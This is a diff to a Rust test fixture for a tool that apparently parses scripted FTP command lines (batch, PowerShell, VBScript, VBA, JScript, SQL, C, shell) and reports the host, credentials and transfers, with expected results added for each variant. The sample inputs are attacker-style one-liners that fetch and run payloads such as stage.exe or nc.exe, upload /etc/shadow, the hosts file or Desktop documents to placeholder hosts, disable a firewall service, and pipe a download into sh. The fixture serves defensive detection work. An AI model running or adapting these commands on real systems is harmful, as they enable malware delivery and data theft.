@@ -9,7 +9,11 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.bat",
             "echo open 203.0.113.101 21>j.txt&echo user mallory t0psecret>>j.txt&echo bin>>j.txt&echo get stage.exe>>j.txt&echo bye>>j.txt&ftp -n -v -s:j.txt&del j.txt&start stage.exe",
         )],
-        &[],
+        &[
+            "203.0.113.101:21 as 'mallory'/'t0psecret'",
+            "  gets stage.exe as stage.exe, binary",
+            "windows runs j.txt (1)",
+        ],
     ),
     variant(
         "V02 blanks before the redirection belong to the answers",
@@ -17,7 +21,11 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.bat",
             "echo open 203.0.113.102 > j.txt\r\necho anonymous >> j.txt\r\necho me@here.example >> j.txt\r\necho binary >> j.txt\r\necho get nc.exe >> j.txt\r\necho bye >> j.txt\r\nftp -s:j.txt\r\n",
         )],
-        &[],
+        &[
+            "203.0.113.102:21 as 'anonymous '/'me@here.example ' meaning anonymous/me@here.example",
+            "  gets nc.exe as nc.exe, binary",
+            "windows runs j.txt (1)",
+        ],
     ),
     variant(
         "V03 USER and PASS typed where the client asks for them",
@@ -25,7 +33,12 @@ pub(super) const VARIANTS: &[Variant] = &[
             "note.log",
             "cmd.exe /c \"@echo open files.example.com 21>q.txt&@echo USER eve>>q.txt&@echo PASS 3vePass>>q.txt&@echo binary>>q.txt&@echo GET /tools/p.exe>>q.txt&@echo quit>>q.txt&@ftp -s:q.txt -v\"",
         )],
-        &[],
+        &[
+            "files.example.com:21 as 'USER eve'/'PASS 3vePass' meaning eve/3vePass",
+            "  gets /tools/p.exe as p.exe, binary",
+            "! answer-reads-like-command",
+            "windows runs q.txt (1)",
+        ],
     ),
     variant(
         "V04 the password on the line after user, -n",
@@ -33,7 +46,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "echo open 203.0.113.104 21> j.txt\r\necho USER lab>> j.txt\r\necho labpw>> j.txt\r\necho bin >> j.txt\r\necho GET nc.exe >> j.txt\r\necho bye >> j.txt\r\nftp -v -n -s:j.txt\r\n",
         )],
-        &[],
+        &["203.0.113.104:21 as 'lab'/'labpw'", "  gets nc.exe as nc.exe, binary", "windows runs j.txt (1)"],
     ),
     variant(
         "V05 a missing password eats the next command",
@@ -41,12 +54,17 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "echo open 203.0.113.105>c.txt\r\necho USER anonymous>>c.txt\r\necho binary>>c.txt\r\necho PUT c:\\windows\\system32\\drivers\\etc\\hosts>>c.txt\r\necho bye>>c.txt\r\nftp -v -n -s:c.txt\r\n",
         )],
-        &[],
+        &[
+            "203.0.113.105:21 as 'anonymous'/'binary'",
+            "  puts c:\\windows\\system32\\drivers\\etc\\hosts as hosts, ascii",
+            "! answer-reads-like-command",
+            "windows runs c.txt (1)",
+        ],
     ),
     variant(
         "V06 a digit by itself before the redirection is a handle",
         &[("run.cmd", "echo open 203.0.113.106>x&echo user mallory 1>>x&echo pw6>>x&echo get a.exe>>x&ftp -n -s:x")],
-        &[],
+        &["203.0.113.106:21 as 'mallory'/'pw6'", "  gets a.exe as a.exe, ascii", "windows runs x (1)"],
     ),
     variant(
         "V07 a block in parentheses, redirected once",
@@ -54,7 +72,11 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "(echo open 203.0.113.107 2121&echo mallory&echo pw1&echo binary&echo get stage2.dll C:\\ProgramData\\s.dll&echo bye)>%TEMP%\\t.txt&ftp -i -s:%TEMP%\\t.txt",
         )],
-        &[],
+        &[
+            "203.0.113.107:2121 as 'mallory'/'pw1'",
+            "  gets stage2.dll as C:\\ProgramData\\s.dll, binary",
+            "windows runs %TEMP%\\t.txt (1)",
+        ],
     ),
     variant(
         "V08 the redirection first, a caret, a quoted path",
@@ -62,12 +84,16 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             ">s.dat echo open 203.0.113.108\r\n>>s.dat echo mallory\r\n>>s.dat echo p^&w\r\n>>s.dat echo put \"C:\\Users\\kim\\my docs\\a b.zip\" loot.zip\r\n>>s.dat echo quit\r\nftp -s:s.dat\r\n",
         )],
-        &[],
+        &[
+            "203.0.113.108:21 as 'mallory'/'p&w'",
+            "  puts C:\\Users\\kim\\my docs\\a b.zip as loot.zip, ascii",
+            "windows runs s.dat (1)",
+        ],
     ),
     variant(
         "V09 empty answers, and a last line without an end",
         &[("run.cmd", "echo open 203.0.113.109>k&echo.>>k&echo.>>k&echo get r.txt>>k&<nul set /p=bye>>k&ftp -s:k")],
-        &[],
+        &["203.0.113.109:21 as ''/''", "  gets r.txt as r.txt, ascii", "  uncertain", "windows runs k (1)"],
     ),
     variant(
         "V10 built from variables",
@@ -75,7 +101,13 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "set H=203.0.113.110&set F=%TEMP%\\~t.tmp\r\necho open %H% 8021>%F%\r\necho user %COMPUTERNAME% x>>%F%\r\necho lcd %USERPROFILE%\\Desktop>>%F%\r\necho mput *.docx>>%F%\r\necho bye>>%F%\r\nftp -n -i -s:%F%\r\n",
         )],
-        &[],
+        &[
+            "203.0.113.110:8021 as '%COMPUTERNAME%'/'x'",
+            "  puts all of *.docx in %USERPROFILE%\\Desktop as *.docx, ascii",
+            "  unknown %COMPUTERNAME%",
+            "  unknown %USERPROFILE%",
+            "windows runs %TEMP%\\~t.tmp (1)",
+        ],
     ),
     variant(
         "V11 one script for each file of a loop",
@@ -83,7 +115,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "for %%f in (C:\\d\\*.xls) do (echo open 203.0.113.111>%%~nf.ftp&echo u1>>%%~nf.ftp&echo p1>>%%~nf.ftp&echo send \"%%f\">>%%~nf.ftp&echo bye>>%%~nf.ftp&ftp -s:%%~nf.ftp)",
         )],
-        &[],
+        &["203.0.113.111:21 as 'u1'/'p1'", "  puts %f as %f, ascii", "  unknown %f", "windows runs %~nf.ftp (1)"],
     ),
     variant(
         "V12 a worm's command line that cleans up",
@@ -91,7 +123,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "worm.txt",
             "cmd /c net stop SharedAccess &echo open host.example.net 21 >> ij &echo user p4214 b007 >> ij &echo binary >> ij &echo get update.exe >> ij &echo bye >> ij &ftp -n -v -s:ij &del ij &update.exe &exit",
         )],
-        &[],
+        &["host.example.net:21 as 'p4214'/'b007'", "  gets update.exe as update.exe, binary", "windows runs ij (1)"],
     ),
     variant(
         "V13 -A with the host in the script",
@@ -99,16 +131,28 @@ pub(super) const VARIANTS: &[Variant] = &[
             "run.cmd",
             "echo open 203.0.113.113> f.txt & echo bin>>f.txt & echo get x.exe>>f.txt & echo bye>>f.txt & ftp -A -s:f.txt",
         )],
-        &[],
+        &[
+            "203.0.113.113:21 as 'anonymous'/'<localuser>@<localhost>'",
+            "  gets x.exe as x.exe, binary",
+            "windows runs f.txt (1) anonymously",
+        ],
     ),
-    variant("V29 the shell alone", &[("run.cmd", "echo !calc.exe > cmds.txt && ftp -s:cmds.txt")], &[]),
+    variant(
+        "V29 the shell alone",
+        &[("run.cmd", "echo !calc.exe > cmds.txt && ftp -s:cmds.txt")],
+        &["(no host)", "  runs calc.exe", "windows runs cmds.txt (1)"],
+    ),
     variant(
         "V39 a here-string, written as ASCII",
         &[(
             "a.ps1",
             "$s=@\"\nopen 203.0.113.139\nmallory\npw\nbinary\nput C:\\t\\d.zip\nquit\n\"@\n$s|Out-File -Encoding ASCII $env:TEMP\\c.txt; ftp.exe -i -s:$env:TEMP\\c.txt; Remove-Item $env:TEMP\\c.txt\n",
         )],
-        &[],
+        &[
+            "203.0.113.139:21 as 'mallory'/'pw'",
+            "  puts C:\\t\\d.zip as d.zip, binary",
+            "windows runs $env:TEMP\\c.txt (1)",
+        ],
     ),
     variant(
         "V39 the same by the default encoding, which the client cannot read",
@@ -116,7 +160,12 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.ps1",
             "$s=@\"\nopen 203.0.113.139\nmallory\npw\nbinary\nput C:\\t\\d.zip\nquit\n\"@\n$s > c.txt; ftp.exe -i -s:c.txt\n",
         )],
-        &[],
+        &[
+            "203.0.113.139:21 as 'mallory'/'pw'",
+            "  puts C:\\t\\d.zip as d.zip, binary",
+            "! utf-16",
+            "windows runs c.txt (1)",
+        ],
     ),
     variant(
         "V40 an array to Set-Content",
@@ -124,7 +173,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.ps1",
             "\"open 203.0.113.140\",\"user mallory pw\",\"bin\",\"get a.ps1\",\"bye\"|Set-Content f.txt;& ftp -n \"-s:f.txt\"\n",
         )],
-        &[],
+        &["203.0.113.140:21 as 'mallory'/'pw'", "  gets a.ps1 as a.ps1, binary", "windows runs f.txt (1)"],
     ),
     variant(
         "V41 a tick-n between single quotes is no line end",
@@ -132,7 +181,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.txt",
             "powershell -c \"sc f.txt ('open {0}`nuser {1} {2}`nget x`nbye' -f '203.0.113.141','mallory','pw');ftp -n -s:f.txt\"\n",
         )],
-        &[],
+        &["(no host)", "  refuses open 203.0.113.141`nuser mallory pw`nget x`nbye", "windows runs f.txt (1)"],
     ),
     variant(
         "V41 between double quotes it is one",
@@ -140,7 +189,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.ps1",
             "sc f.txt (\"open {0}`nuser {1} {2}`nget x`nbye\" -f '203.0.113.141','mallory','pw');ftp -n -s:f.txt\n",
         )],
-        &[],
+        &["203.0.113.141:21 as 'mallory'/'pw'", "  gets x as x, ascii", "windows runs f.txt (1)"],
     ),
     variant(
         "V42 VBScript and the file system object",
@@ -148,7 +197,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.vbs",
             "Set f=CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"t.ftp\",True)\nf.WriteLine \"open 203.0.113.142\"\nf.WriteLine \"mallory\"\nf.WriteLine \"pw\"\nf.WriteLine \"get \" & Chr(34) & \"my file.exe\" & Chr(34)\nf.WriteLine \"bye\"\nf.Close\nCreateObject(\"WScript.Shell\").Run \"ftp -s:t.ftp\",0,True\n",
         )],
-        &[],
+        &["203.0.113.142:21 as 'mallory'/'pw'", "  gets my file.exe as my file.exe, ascii", "windows runs t.ftp (1)"],
     ),
     variant(
         "V43 VBA and Print #",
@@ -156,7 +205,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "m.bas",
             "Sub Send()\nOpen \"C:\\c.ftp\" For Output As #1\nPrint #1, \"open 203.0.113.143\"\nPrint #1, \"user mallory pw\"\nPrint #1, \"put C:\\a.xls\"\nPrint #1, \"bye\"\nClose #1\nShell \"ftp.exe -n -i -s:C:\\c.ftp\", vbHide\nEnd Sub\n",
         )],
-        &[],
+        &["203.0.113.143:21 as 'mallory'/'pw'", "  puts C:\\a.xls as a.xls, ascii", "windows runs C:\\c.ftp (1)"],
     ),
     variant(
         "V44 JScript",
@@ -164,7 +213,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.js",
             "var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(\"o.txt\",2,true);f.Write(\"open 203.0.113.144\\r\\nmallory\\r\\npw\\r\\nget q.exe\\r\\nbye\\r\\n\");f.Close();new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ftp -s:o.txt\",0);\n",
         )],
-        &[],
+        &["203.0.113.144:21 as 'mallory'/'pw'", "  gets q.exe as q.exe, ascii", "windows runs o.txt (1)"],
     ),
     variant(
         "V44 the same in an HTML application",
@@ -172,7 +221,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.hta",
             "<html><head><script language=\"JScript\">var f=new ActiveXObject(\"Scripting.FileSystemObject\").OpenTextFile(\"o.txt\",2,true);f.Write(\"open 203.0.113.144\\r\\nmallory\\r\\npw\\r\\nget q.exe\\r\\nbye\\r\\n\");f.Close();new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c ftp -s:o.txt\",0);</script></head></html>\n",
         )],
-        &[],
+        &["203.0.113.144:21 as 'mallory'/'pw'", "  gets q.exe as q.exe, ascii", "windows runs o.txt (1)"],
     ),
     variant(
         "V45 SQL that runs command lines",
@@ -180,7 +229,7 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.sql",
             "exec master..xp_cmdshell 'echo open 203.0.113.145 >d:\\f.txt';exec master..xp_cmdshell 'echo mallory>>d:\\f.txt';exec master..xp_cmdshell 'echo pw>>d:\\f.txt';exec master..xp_cmdshell 'echo get lc.exe>>d:\\f.txt';exec master..xp_cmdshell 'echo bye>>d:\\f.txt';exec master..xp_cmdshell 'ftp -s:d:\\f.txt' \n",
         )],
-        &[],
+        &["203.0.113.145:21 as 'mallory'/'pw'", "  gets lc.exe as lc.exe, ascii", "windows runs d:\\f.txt (1)"],
     ),
     variant(
         "V46 C, a template",
@@ -188,7 +237,13 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.c",
             "#include <stdio.h>\nint main(int n, char **v) {\n FILE *fp = fopen(\"c.txt\", \"w\");\n fprintf(fp,\"open 203.0.113.146 2121\\nuser mallory pw\\ntype binary\\ncd shared\\nput %s\\nquit\",fn);fclose(fp);system(\"ftp -n -s:c.txt\");\n}\n",
         )],
-        &[],
+        &[
+            "! template",
+            "203.0.113.146:2121 as 'mallory'/'pw'",
+            "  puts %s as %s in shared, binary",
+            "  unknown %s",
+            "windows runs c.txt (1)",
+        ],
     ),
     variant(
         "V47 a scheduled task with quotes in quotes",
@@ -196,12 +251,12 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.bat",
             "schtasks /create /tn U /tr \"powershell -w hidden -c \\\"ftp -A -s:'C:\\ProgramData\\W\\ftp.txt'\\\"\" /sc minute /mo 10\n",
         )],
-        &[],
+        &["windows runs C:\\ProgramData\\W\\ftp.txt (0) anonymously"],
     ),
     variant(
         "V49 a here-document",
         &[("a.sh", "#!/bin/sh\nftp -n 203.0.113.149 <<EOF\nuser mallory pw\nbinary\nput /etc/shadow sh\nbye\nEOF\n")],
-        &[],
+        &["203.0.113.149:21 as 'mallory'/'pw'", "  puts /etc/shadow as sh, binary", "bsd runs - (1)"],
     ),
     variant(
         "V50 quoted, indented by tabs, -i and prompt",
@@ -209,12 +264,12 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.sh",
             "#!/bin/sh\nftp -inv <<-'END'\n\topen 203.0.113.150 2121\n\tuser \"$U\" \"$P\"\n\tprompt\n\tmget *.log\n\tbye\n\tEND\n",
         )],
-        &[],
+        &["203.0.113.150:2121 as '$U'/'$P'", "  gets all of *.log as *.log, binary", "  uncertain", "bsd runs - (1)"],
     ),
     variant(
         "V51 printf into a pipe",
         &[("a.sh", "#!/bin/sh\nprintf 'open 203.0.113.151\\nuser mallory pw\\nget a.sh\\nbye\\n' | ftp -n\n")],
-        &[],
+        &["203.0.113.151:21 as 'mallory'/'pw'", "  gets a.sh as a.sh, binary", "bsd runs - (1)"],
     ),
     variant(
         "V52 a group of echoes into a pipe",
@@ -222,11 +277,11 @@ pub(super) const VARIANTS: &[Variant] = &[
             "a.sh",
             "#!/bin/bash\n{ echo open 203.0.113.152; sleep 1; echo user mallory pw; echo \"get a.bin /tmp/.a\"; echo quit; } | ftp -n\n",
         )],
-        &[],
+        &["203.0.113.152:21 as 'mallory'/'pw'", "  gets a.bin as /tmp/.a, binary", "bsd runs - (1)"],
     ),
     variant(
         "V54 a download into a shell",
         &[("a.sh", "#!/bin/sh\nftp -n <<EOF\nopen 203.0.113.154\nuser mallory pw\nget run.sh |sh\nbye\nEOF\n")],
-        &[],
+        &["203.0.113.154:21 as 'mallory'/'pw'", "  gets run.sh as |sh, binary", "  runs sh", "bsd runs - (1)"],
     ),
 ];
